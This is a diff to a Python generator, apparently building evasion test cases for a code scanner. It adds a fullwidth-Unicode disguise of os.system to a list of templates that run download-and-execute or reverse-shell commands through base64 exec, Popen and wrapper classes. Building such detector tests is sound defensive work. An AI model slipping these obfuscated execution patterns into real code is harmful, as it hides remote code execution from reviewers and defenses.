@@ -751,6 +751,7 @@ def wrapper_evasions(h, p, u):
         f'import base64\n\ndef unpack(p):\n    return base64.b64decode(p)\n\nexec(unpack("{b64("import os; os.system(" + repr(dl) + ")")}"))',
         f'import subprocess as s\nP = s.Popen\nP("{dl}", shell=True)',
         f'import os\nCMDS = {{"update": "{dl}", "list": "ls"}}\nos.system(CMDS["update"])',
+        f'import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d("{dl}")',
         f'import os\nsteps = {{"a": "{rs}"}}\nfor k in ["a"]:\n    pass\nos.popen(steps.get("a"))',
         f'import os\n\nclass Updater:\n    def fetch(self, cmd):\n        return os.popen(cmd).read()\n\nUpdater().fetch("{dl}")',
         f'import subprocess\n\nclass Job:\n    def __init__(self, cmd):\n        self.start(cmd)\n\n    def start(self, cmd):\n        subprocess.Popen(cmd, shell=True)\n\nJob("{rs}")',
